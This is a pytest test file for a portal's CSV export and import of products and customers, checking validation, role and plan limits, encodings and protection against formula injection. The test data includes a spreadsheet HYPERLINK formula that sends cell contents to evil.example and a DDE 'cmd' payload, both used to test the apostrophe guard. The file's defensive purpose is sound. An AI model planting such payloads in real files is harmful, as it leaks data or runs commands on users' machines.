"""CSV export and all-or-nothing import of products and customers (a PRO feature)."""

from __future__ import annotations

import csv
import io
import time

import pytest
from sqlalchemy import func, select

from portal.accounts.models import Organization
from portal.catalog.models import Customer, Product
from portal.extensions import db
from tests.conftest import assert_envelope, bearer

PRODUCTS = "/api/v1/products"
CUSTOMERS = "/api/v1/customers"
URLS = {"products": PRODUCTS, "customers": CUSTOMERS}
MODELS = {"products": Product, "customers": Customer}
EN = {"Accept-Language": "en"}
PRODUCT_HEADER = ["name", "sku", "price", "taxRate", "unit", "active"]
CUSTOMER_HEADER = [
    "name",
    "email",
    "phone",
    "taxId",
    "street",
    "postalCode",
    "city",
    "region",
    "country",
    "surcharge",
    "locale",
]
HEADERS = {"products": PRODUCT_HEADER, "customers": CUSTOMER_HEADER}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Clic aquí")'

PRODUCT_ROWS = [
    {"name": "Martillo de uña", "sku": "HER-001", "price": "12,5", "taxRate": 16, "unit": "pieza"},
    {"name": "Clavo, caja de 100", "sku": "CLA-100", "price": 0.5, "unit": "caja", "active": False},
    {"name": 'Cinta "doble cara"', "sku": "CIN-2", "price": "2.675", "taxRate": "8"},
    {"name": FORMULA, "sku": "=SKU-1", "price": "99.99"},
    {"name": "+ Tornillos", "sku": "-TOR", "price": "1"},
    {"name": "@Arandela", "sku": "@ARA", "price": "1.10"},
    {"name": "Ñandú de peluche", "sku": "ÑAN-1", "price": "150"},
]
CUSTOMER_ROWS = [
    {
        "name": "Ferretería López",
        "email": "compras@lopez.example.mx",
        "taxId": "LOPE800101AB1",
        "address": "Av. Reforma 1, piso 2\nCiudad de México",
        "phone": "+52 55 1234 5678",
        "locale": "en",
    },
    {"name": "Abarrotes Díaz", "email": "", "taxId": "", "address": "", "phone": ""},
    {"name": FORMULA, "email": "x@example.com", "taxId": "-1", "address": '"Casa"', "phone": "@1"},
]


def csv_bytes(rows: list[list[str]], newline: str = "\r\n") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator=newline).writerows(rows)
    return buffer.getvalue().encode()


def upload(client, url: str, member, content: bytes, headers=None, filename="datos.csv"):
    return client.post(
        f"{url}/import",
        data={"file": (io.BytesIO(content), filename)},
        headers=bearer(member, **(headers or {})),
    )


def export(client, url: str, member) -> str:
    response = client.get(f"{url}/export", headers=bearer(member))
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    return response.get_data(as_text=True)


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def create_all(client, url: str, member, rows: list[dict]) -> list[dict]:
    return [
        assert_envelope(client.post(url, json=row, headers=bearer(member)), 201)["data"]
        for row in rows
    ]


def listing(client, url: str, member) -> list[dict]:
    data = assert_envelope(
        client.get(url, query_string={"limit": 100}, headers=bearer(member)), 200
    )["data"]
    assert data["nextCursor"] is None
    return [
        {k: v for k, v in item.items() if k not in ("id", "createdAt")} for item in data["items"]
    ]


def customer_answer(**values) -> dict:
    """A customer as the API answers it: blank but for ``values``."""
    address = {"street": "", "postalCode": "", "city": "", "region": "", "country": ""}
    answer = {"email": "", "taxId": "", "country": "", "surcharge": False, "phone": ""}
    answer["locale"] = ""
    return {**answer, "address": address, **values}


def count(app, kind: str, organization_id: str) -> int:
    model = MODELS[kind]
    with app.app_context():
        return db.session.scalar(
            select(func.count(model.id))
            .join(Organization, Organization.id == model.organization_id)
            .where(Organization.public_id == organization_id)
        )


def import_errors(response, lang: str = "es") -> dict:
    body = assert_envelope(response, 400, "VALIDATION_ERROR")
    assert body["message"] == ("La validación falló" if lang == "es" else "Validation failed")
    assert body["data"] is None
    assert body["error"] == next(iter(body["errors"].values()))
    return body["errors"]


def good_products(n: int, start: int = 0) -> list[list[str]]:
    return [
        [f"Producto {i}", f"P-{i:05d}", f"{i % 97 + 1}.25", "16.00", "pieza", "true"]
        for i in range(start, start + n)
    ]


# --- Export ----------------------------------------------------------------------------------


def test_product_export_is_csv_with_every_row(client, make_user):
    operator = make_user(role="OPERATOR")
    stranger = make_user(role="OPERATOR")
    create_all(client, PRODUCTS, operator, PRODUCT_ROWS[:3])
    create_all(client, PRODUCTS, stranger, [{"name": "Ajeno", "sku": "X", "price": 1}])
    response = client.get(f"{PRODUCTS}/export", headers=bearer(operator))
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="products.csv"'
    assert parse(response.get_data(as_text=True)) == [
        PRODUCT_HEADER,
        ['Cinta "doble cara"', "CIN-2", "2.68", "8.00", "", "true"],
        ["Clavo, caja de 100", "CLA-100", "0.50", "0.00", "caja", "false"],
        ["Martillo de uña", "HER-001", "12.50", "16.00", "pieza", "true"],
    ]
    assert parse(export(client, PRODUCTS, stranger)) == [
        PRODUCT_HEADER,
        ["Ajeno", "X", "1.00", "0.00", "", "true"],
    ]


def test_customer_export_keeps_commas_quotes_and_line_breaks(client, make_user):
    operator = make_user(role="OPERATOR")
    create_all(client, CUSTOMERS, operator, CUSTOMER_ROWS[:2])
    assert parse(export(client, CUSTOMERS, operator)) == [
        CUSTOMER_HEADER,
        ["Abarrotes Díaz", "", "", "", "", "", "", "", "", "false", ""],
        [
            "Ferretería López",
            "compras@lopez.example.mx",
            "+52 55 1234 5678",  # a phone number, not a formula: no apostrophe
            "LOPE800101AB1",
            "Av. Reforma 1, piso 2\nCiudad de México",
            "",
            "",
            "",
            "",
            "false",
            "en",
        ],
    ]


@pytest.mark.parametrize("kind", ["products", "customers"])
def test_empty_export_is_just_the_header(client, make_user, kind):
    viewer = make_user(role="VIEWER")
    assert parse(export(client, URLS[kind], viewer)) == [HEADERS[kind]]


def test_formula_cells_are_exported_with_a_leading_apostrophe(client, make_user):
    operator = make_user(role="OPERATOR")
    create_all(client, PRODUCTS, operator, PRODUCT_ROWS[3:6])
    rows = {row[1]: row for row in parse(export(client, PRODUCTS, operator))[1:]}
    assert rows["'=SKU-1"][0] == "'" + FORMULA
    assert rows["'-TOR"][0] == "'+ Tornillos"
    assert rows["'@ARA"][0] == "'@Arandela"
    for row in rows.values():
        assert not row[0].startswith(("=", "+", "-", "@")) and not row[1].startswith("=")


# --- Round trip ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "rows"), [("products", PRODUCT_ROWS), ("customers", CUSTOMER_ROWS)]
)
def test_export_then_import_elsewhere_reproduces_the_data(client, make_user, kind, rows):
    url = URLS[kind]
    source = make_user(role="OPERATOR")
    target = make_user(role="OPERATOR")
    create_all(client, url, source, rows)
    exported = export(client, url, source)

    response = upload(client, url, target, exported.encode())
    body = assert_envelope(response, 201)
    noun = "productos" if kind == "products" else "clientes"
    assert body["message"] == f"{len(rows)} {noun} importados"
    assert body["data"] == {"imported": len(rows)}

    assert listing(client, url, target) == listing(client, url, source)
    assert export(client, url, target) == exported
    names = [item["name"] for item in listing(client, url, target)]
    assert FORMULA in names  # the apostrophe guard is undone on the way back in


def test_round_trip_keeps_a_leading_apostrophe(client, make_user):
    source = make_user(role="OPERATOR")
    target = make_user(role="OPERATOR")
    create_all(client, CUSTOMERS, source, [{"name": "'=no es fórmula", "phone": "'+52"}])
    upload(client, CUSTOMERS, target, export(client, CUSTOMERS, source).encode())
    assert listing(client, CUSTOMERS, target) == listing(client, CUSTOMERS, source)


def test_phone_numbers_are_not_taken_for_formulas(client, make_user):
    """Issue 15.4: "+52 55 1234 5678" leaves as it is; a + followed by anything else is
    still guarded, and both come back unchanged."""
    source = make_user(role="OPERATOR")
    target = make_user(role="OPERATOR")
    rows = [
        {"name": "Teléfono MX", "phone": "+52 55 1234 5678"},
        {"name": "Teléfono ES", "phone": "+34 (91) 123-45-67"},
        {"name": "Fórmula", "phone": "+1+cmd|' /C calc'!A0"},
        {"name": "Suma", "phone": "+SUM(A1)"},
    ]
    create_all(client, CUSTOMERS, source, rows)
    exported = export(client, CUSTOMERS, source)
    phones = {row[0]: row[2] for row in parse(exported)[1:]}
    assert phones["Teléfono MX"] == "+52 55 1234 5678"
    assert phones["Teléfono ES"] == "+34 (91) 123-45-67"
    assert phones["Fórmula"] == "'+1+cmd|' /C calc'!A0"
    assert phones["Suma"] == "'+SUM(A1)"
    upload(client, CUSTOMERS, target, exported.encode())
    assert listing(client, CUSTOMERS, target) == listing(client, CUSTOMERS, source)


# --- Import: success -------------------------------------------------------------------------


def test_import_products_applies_the_same_parsing_as_the_api(client, make_user):
    operator = make_user(role="OPERATOR")
    content = csv_bytes(
        [
            ["sku", "name", "price", "notes"],  # any column order; unknown columns ignored
            [" A-1 ", " Tuerca ", "12,50", "ignored"],
            ["B-2", "Perno", "2.675", ""],
            ["C-3", "Rondana", "0.005", ""],
        ]
    )
    body = assert_envelope(upload(client, PRODUCTS, operator, content, EN), 201)
    assert body["message"] == "3 products imported" and body["data"] == {"imported": 3}
    assert listing(client, PRODUCTS, operator) == [
        {
            "name": "Perno",
            "sku": "B-2",
            "price": "2.68",
            "taxRate": "0.00",
            "unit": "",
            "active": True,
        },
        {
            "name": "Rondana",
            "sku": "C-3",
            "price": "0.01",
            "taxRate": "0.00",
            "unit": "",
            "active": True,
        },
        {
            "name": "Tuerca",
            "sku": "A-1",
            "price": "12.50",
            "taxRate": "0.00",
            "unit": "",
            "active": True,
        },
    ]


def test_import_customers(client, make_user):
    operator = make_user(role="OPERATOR")
    content = csv_bytes(
        [
            ["name", "email", "phone"],
            ["Ana", " ana@example.com ", "555"],
            ["Beto", "", ""],
        ]
    )
    body = assert_envelope(upload(client, CUSTOMERS, operator, content), 201)
    assert body["message"] == "2 clientes importados" and body["data"] == {"imported": 2}
    assert listing(client, CUSTOMERS, operator) == [
        customer_answer(name="Ana", email="ana@example.com", phone="555"),
        customer_answer(name="Beto"),
    ]


@pytest.mark.parametrize("content_type", ["text/csv", "text/csv; charset=utf-8", "application/csv"])
def test_a_raw_text_csv_body_works_too(client, make_user, content_type):
    operator = make_user(role="OPERATOR")
    content = csv_bytes([["name", "sku", "price"], ["Tuerca", "T-1", "1"], ["Perno", "P-1", "2"]])
    response = client.post(
        f"{PRODUCTS}/import", data=content, content_type=content_type, headers=bearer(operator)
    )
    assert assert_envelope(response, 201)["data"] == {"imported": 2}
    assert count(client.application, "products", operator.organization_id) == 2


def test_byte_order_mark_and_bare_newlines_are_fine(client, make_user):
    operator = make_user(role="OPERATOR")
    content = b"\xef\xbb\xbf" + csv_bytes(
        [["name", "sku", "price"], ["Tuerca", "T-1", "1"]], newline="\n"
    )
    assert assert_envelope(upload(client, PRODUCTS, operator, content), 201)["data"] == {
        "imported": 1
    }


@pytest.mark.parametrize(("cell", "active"), [("true", True), ("false", False)])
def test_active_column_reads_what_export_writes(client, make_user, cell, active):
    operator = make_user(role="OPERATOR")
    content = csv_bytes([["name", "sku", "price", "active"], ["Tuerca", "T-1", "1", cell]])
    assert_envelope(upload(client, PRODUCTS, operator, content), 201)
    assert listing(client, PRODUCTS, operator)[0]["active"] is active


@pytest.mark.parametrize("cell", ["FALSE", "False", "0"])
def test_spreadsheet_spellings_of_false_import_as_inactive(client, make_user, cell):
    operator = make_user(role="OPERATOR")
    content = csv_bytes([["name", "sku", "price", "active"], ["Tuerca", "T-1", "1", cell]])
    assert_envelope(upload(client, PRODUCTS, operator, content), 201)
    assert listing(client, PRODUCTS, operator)[0]["active"] is False


# --- Import: all or nothing ------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["es", "en"])
def test_one_bad_row_imports_nothing_and_names_its_line(client, make_user, lang):
    operator = make_user(role="OPERATOR")
    create_all(client, PRODUCTS, operator, [{"name": "Existente", "sku": "E-1", "price": 5}])
    content = csv_bytes(
        [
            PRODUCT_HEADER,  # line 1
            ["Tuerca", "T-1", "1", "16", "pieza", "true"],  # line 2
            ["Perno", "P-1", "0", "16", "pieza", "true"],  # line 3: price 0
            ["Rondana", "R-1", "3", "16", "pieza", "true"],  # line 4
            ["", "S-1", "abc", "101", "pieza", "true"],  # line 5: three problems
            ["Taquete", "Q-1", "4", "", "", ""],  # line 6
        ]
    )
    errors = import_errors(
        upload(client, PRODUCTS, operator, content, EN if lang == "en" else {}), lang
    )
    expected = {
        "es": {
            "rows[3].price": "El precio debe ser mayor a 0",
            "rows[5].name": "El nombre es requerido",
            "rows[5].price": "Debe ser un número",
            "rows[5].taxRate": "Debe estar entre 0 y 100",
        },
        "en": {
            "rows[3].price": "Price must be greater than 0",
            "rows[5].name": "Name is required",
            "rows[5].price": "Must be a number",
            "rows[5].taxRate": "Must be between 0 and 100",
        },
    }
    assert errors == expected[lang]
    assert [p["sku"] for p in listing(client, PRODUCTS, operator)] == ["E-1"]


@pytest.mark.parametrize(
    "row",
    [
        {"name": "", "sku": "A", "price": "1"},
        {"name": "A", "sku": "", "price": "1"},
        {"name": "A", "sku": "A", "price": ""},
        {"name": "A", "sku": "A", "price": "-3"},
        {"name": "A", "sku": "A", "price": "NaN"},
        {"name": "A", "sku": "A", "price": "1e20"},
        {"name": "A", "sku": "A", "price": "1", "taxRate": "-1"},
        {"name": "x" * 201, "sku": "S" * 65, "price": "1", "unit": "u" * 21},
    ],
)
def test_product_row_errors_speak_like_the_api(client, make_user, row):
    operator = make_user(role="OPERATOR")
    api = client.post(PRODUCTS, json=row, headers=bearer(operator))
    api_errors = import_errors(api)
    header = list(row)
    content = csv_bytes([header, ["Bien", "OK-1", "1", "", ""][: len(header)], list(row.values())])
    csv_errors = import_errors(upload(client, PRODUCTS, operator, content))
    assert csv_errors == {f"rows[3].{field}": message for field, message in api_errors.items()}
    assert count(client.application, "products", operator.organization_id) == 0


@pytest.mark.parametrize("email", ["bad", "x@", "a b@example.com"])
def test_customer_row_errors_speak_like_the_api(client, make_user, email):
    operator = make_user(role="OPERATOR")
    content = csv_bytes(
        [["name", "email"], ["Ana", "ana@example.com"], ["Beto", email], ["", "c@example.com"]]
    )
    assert import_errors(upload(client, CUSTOMERS, operator, content)) == {
        "rows[3].email": "Correo electrónico inválido",
        "rows[4].name": "El nombre es requerido",
    }
    english = import_errors(upload(client, CUSTOMERS, operator, content, EN), "en")
    assert english == {"rows[3].email": "Invalid email address", "rows[4].name": "Name is required"}
    assert count(client.application, "customers", operator.organization_id) == 0


def test_a_row_spanning_lines_is_reported_where_it_starts(client, make_user):
    operator = make_user(role="OPERATOR")
    content = csv_bytes([["name", "email", "address"], ["Ana", "bad", "Calle 1\nPiso 2\nCDMX"]])
    assert import_errors(upload(client, CUSTOMERS, operator, content)) == {
        "rows[2].email": "Correo electrónico inválido"
    }


@pytest.mark.parametrize("lang", ["es", "en"])
def test_duplicate_skus_in_the_file_and_against_existing_rows(client, make_user, lang):
    operator = make_user(role="OPERATOR")
    create_all(client, PRODUCTS, operator, [{"name": "Existente", "sku": "EX-1", "price": 5}])
    content = csv_bytes(
        [
            ["name", "sku", "price"],
            ["Uno", "A-1", "1"],  # 2
            ["Dos", " ex-1 ", "1"],  # 3: already in the catalog
            ["Tres", "B-1", "1"],  # 4
            ["Cuatro", " a-1", "1"],  # 5: repeats line 2
            ["Cinco", "C-1", "1"],  # 6
        ]
    )
    message = {
        "es": "Ya existe un producto con ese SKU",
        "en": "A product with that SKU already exists",
    }[lang]
    errors = import_errors(
        upload(client, PRODUCTS, operator, content, EN if lang == "en" else {}), lang
    )
    assert errors == {"rows[3].sku": message, "rows[5].sku": message}
    assert [p["sku"] for p in listing(client, PRODUCTS, operator)] == ["EX-1"]


def test_another_organisations_skus_do_not_count(client, make_user):
    mine = make_user(role="OPERATOR")
    theirs = make_user(role="OPERATOR")
    create_all(client, PRODUCTS, theirs, [{"name": "Suyo", "sku": "A-1", "price": 5}])
    content = csv_bytes([["name", "sku", "price"], ["Mío", "a-1", "1"]])
    assert_envelope(upload(client, PRODUCTS, mine, content), 201)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"name,sku,price\nTu\x00erca,T-1,1\n", id="in a name"),
        pytest.param(b"name,sku,price\nTuerca,T-1,1\x00\n", id="in a price"),
        pytest.param(
            b"name,sku,price,unit\nTuerca,T-1,1,\x00\n",
            id="in an optional column",
        ),
        pytest.param(b"name,sku,price\x00\nTuerca,T-1,1\n", id="in the header"),
    ],
)
def test_nul_characters_in_a_file_are_a_400_never_a_server_error(make_app, make_user, content):
    # PostgreSQL refuses NUL in text: letting one through is a 500 there.
    client = make_app(PROPAGATE_INTERNAL_ERRORS=False).test_client()
    operator = make_user(role="OPERATOR")
    assert import_errors(upload(client, PRODUCTS, operator, content))
    assert count(client.application, "products", operator.organization_id) == 0


# --- Import: the file itself -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "header", "es", "en"),
    [
        ("products", ["name", "sku"], "Falta la columna: price", "Missing column: price"),
        ("products", ["name", "price", "unit"], "Falta la columna: sku", "Missing column: sku"),
        ("customers", ["email", "phone"], "Falta la columna: name", "Missing column: name"),
        # A header in Spanish hears of its missing column in Spanish, whatever the language.
        ("products", ["Nombre", "SKU"], "Falta la columna: Precio", "Missing column: Precio"),
        ("customers", ["Teléfono"], "Falta la columna: Nombre", "Missing column: Nombre"),
    ],
)
def test_missing_required_column_is_a_file_error(client, make_user, kind, header, es, en):
    operator = make_user(role="OPERATOR")
    content = csv_bytes([header, ["a"] * len(header)])
    assert import_errors(upload(client, URLS[kind], operator, content)) == {"file": es}
    assert import_errors(upload(client, URLS[kind], operator, content, EN), "en") == {"file": en}
    assert count(client.application, kind, operator.organization_id) == 0


@pytest.mark.parametrize(
    "content",
    [
        "name,sku,price\nÑandú,N-1,5\n".encode("latin-1"),
        "nombre,sku,price\n".encode("utf-16"),
        "ñame,sku,price\nA,A-1,1\n".encode("latin-1"),
        b"name,sku,price\n" + csv_bytes(good_products(3000)) + "Ñu,Ñ-1,1\n".encode("cp1252"),
    ],
    ids=["latin-1 row", "utf-16", "latin-1 header", "latin-1 deep in a big file"],
)
def test_a_file_that_is_not_utf8_is_a_file_error(client, make_user, content):
    operator = make_user(role="OPERATOR")
    assert import_errors(upload(client, PRODUCTS, operator, content)) == {
        "file": "El archivo debe ser un CSV codificado en UTF-8"
    }
    assert import_errors(upload(client, PRODUCTS, operator, content, EN), "en") == {
        "file": "The file must be a UTF-8 encoded CSV"
    }
    assert count(client.application, "products", operator.organization_id) == 0


@pytest.mark.parametrize(
    "content", [b"", b"name,sku,price\r\n", b"name,sku,price", b"\n\n\n", b"\xef\xbb\xbf"]
)
def test_a_file_without_rows_is_a_file_error(client, make_user, content):
    operator = make_user(role="OPERATOR")
    assert import_errors(upload(client, PRODUCTS, operator, content)) == {
        "file": "El archivo no tiene filas para importar"
    }


def test_a_request_without_a_file_is_a_file_error(client, make_user):
    operator = make_user(role="OPERATOR")
    url = f"{PRODUCTS}/import"
    expected = {"file": "Elige un archivo CSV para importar"}
    for response in (
        client.post(url, headers=bearer(operator)),
        client.post(url, json={"rows": []}, headers=bearer(operator)),
        client.post(
            url,
            data={"other": (io.BytesIO(b"name,sku,price\nA,A,1\n"), "x.csv")},
            headers=bearer(operator),
        ),
        client.post(
            url,
            data={"file": (io.BytesIO(b"name,sku,price\nA,A,1\n"), "")},
            headers=bearer(operator),
        ),
    ):
        assert import_errors(response) == expected
    empty_body = client.post(url, data=b"", content_type="text/csv", headers=bearer(operator))
    assert set(import_errors(empty_body)) == {"file"}
    english = client.post(url, headers=bearer(operator, **EN))
    assert import_errors(english, "en") == {"file": "Choose a CSV file to import"}


# --- Plans and roles -------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["products", "customers"])
def test_free_plan_gets_plan_required_for_export_and_import(client, make_user, kind):
    owner = make_user(role="OWNER", plan="FREE")
    url = URLS[kind]
    content = csv_bytes([HEADERS[kind], ["Ana", "A-1", "1", "", "", ""][: len(HEADERS[kind])]])
    for response, lang in (
        (client.get(f"{url}/export", headers=bearer(owner)), "es"),
        (upload(client, url, owner, content), "es"),
        (client.get(f"{url}/export", headers=bearer(owner, **EN)), "en"),
        (upload(client, url, owner, content, EN), "en"),
        (
            client.post(
                f"{url}/import", data=content, content_type="text/csv", headers=bearer(owner)
            ),
            "es",
        ),
    ):
        body = assert_envelope(response, 403, "PLAN_REQUIRED")
        assert (
            body["error"]
            == body["message"]
            == {
                "es": "Función disponible en el plan Pro",
                "en": "Feature available on the Pro plan",
            }[lang]
        )
        assert body["data"] is None
    assert count(client.application, kind, owner.organization_id) == 0


@pytest.mark.parametrize("plan", ["PRO", "ENTERPRISE"])
def test_paid_plans_may_export_and_import(client, make_user, plan):
    owner = make_user(role="OWNER", plan=plan)
    content = csv_bytes([["name", "sku", "price"], ["Tuerca", "T-1", "1"]])
    assert_envelope(upload(client, PRODUCTS, owner, content), 201)
    assert len(parse(export(client, PRODUCTS, owner))) == 2


@pytest.mark.parametrize("kind", ["products", "customers"])
def test_viewer_exports_but_cannot_import(client, make_user, kind):
    operator = make_user(role="OPERATOR")
    viewer = make_user(role="VIEWER", organization_id=operator.organization_id)
    url = URLS[kind]
    create_all(client, url, operator, [PRODUCT_ROWS[0] if kind == "products" else CUSTOMER_ROWS[1]])
    assert len(parse(export(client, url, viewer))) == 2
    content = csv_bytes([HEADERS[kind], ["Ana", "A-9", "1", "", "", ""][: len(HEADERS[kind])]])
    spanish = assert_envelope(upload(client, url, viewer, content), 403, "FORBIDDEN")
    assert spanish["error"] == "Sin permisos"
    english = assert_envelope(upload(client, url, viewer, content, EN), 403, "FORBIDDEN")
    assert english["error"] == "Access denied — OPERATOR role required"
    assert count(client.application, kind, operator.organization_id) == 1


@pytest.mark.parametrize("kind", ["products", "customers"])
def test_anonymous_export_and_import_are_401(client, kind):
    for response in (
        client.get(f"{URLS[kind]}/export"),
        client.post(f"{URLS[kind]}/import", data=b"name\nA\n", content_type="text/csv"),
    ):
        assert_envelope(response, 401, "UNAUTHORIZED")


# --- Size ------------------------------------------------------------------------------------


def test_five_thousand_rows_import_and_export(client, make_user):
    operator = make_user(role="OPERATOR")
    content = csv_bytes([PRODUCT_HEADER, *good_products(5000)])
    started = time.perf_counter()
    response = upload(client, PRODUCTS, operator, content)
    elapsed = time.perf_counter() - started
    body = assert_envelope(response, 201)
    assert body["data"] == {"imported": 5000} and body["message"] == "5000 productos importados"
    assert elapsed < 60, elapsed
    assert count(client.application, "products", operator.organization_id) == 5000

    rows = parse(export(client, PRODUCTS, operator))
    assert rows[0] == PRODUCT_HEADER and len(rows) == 5001
    assert sorted(rows[1:]) == sorted(good_products(5000))


def test_a_bad_row_at_the_end_of_a_big_file_imports_nothing(client, make_user):
    operator = make_user(role="OPERATOR")
    rows = [PRODUCT_HEADER, *good_products(4998)]
    rows.append(["Repetido", " p-00007 ", "1", "", "", ""])  # line 5000: same SKU as line 9
    rows.append(["Gratis", "FREE-1", "0", "", "", ""])  # line 5001
    errors = import_errors(upload(client, PRODUCTS, operator, csv_bytes(rows)))
    assert errors == {
        "rows[5000].sku": "Ya existe un producto con ese SKU",
        "rows[5001].price": "El precio debe ser mayor a 0",
    }
    assert count(client.application, "products", operator.organization_id) == 0


def test_existing_skus_are_found_beyond_the_first_batch(app, client, make_user):
    operator = make_user(role="OPERATOR")
    create_all(client, PRODUCTS, operator, [{"name": "Viejo", "sku": "P-04500", "price": 1}])
    errors = import_errors(
        upload(client, PRODUCTS, operator, csv_bytes([PRODUCT_HEADER, *good_products(5000)]))
    )
    assert errors == {"rows[4502].sku": "Ya existe un producto con ese SKU"}
    assert count(app, "products", operator.organization_id) == 1
